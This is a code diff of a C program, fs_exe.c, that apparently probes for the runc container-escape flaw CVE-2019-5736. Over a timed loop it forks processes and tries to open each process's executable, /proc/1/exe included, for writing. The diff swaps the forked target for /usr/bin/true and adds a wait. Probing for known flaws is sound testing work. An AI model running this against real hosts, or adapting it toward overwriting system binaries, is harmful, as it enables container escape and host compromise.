@@ -1,8 +1,9 @@
 /* fs_exe.c SECONDS - overwrites the program that starts programs (CVE-2019-5736): for so long,
- * tries to open what every process here runs for writing, others start meanwhile. */
+ * tries to open what every process here runs for writing; others start meanwhile. */
 #include <dirent.h>
 #include <fcntl.h>
 #include <stdlib.h>
+#include <sys/wait.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -41,11 +42,11 @@ int main(int argc, char **argv)
 
 	while (time(NULL) < until) {
 		if (fork() == 0) {
-			(void)execl("/tmp/me", "me", NULL);
-			_exit(0);
+			(void)execl("/usr/bin/true", "true", NULL);
+			_exit(1);
 		}
 		(void)open_all();
-		(void)open("/proc/1/exe", O_WRONLY);
+		(void)wait(NULL);
 	}
 	tell("/proc/1/exe", open("/proc/1/exe", O_WRONLY));
 	printf("looked at %lu\n", looked);
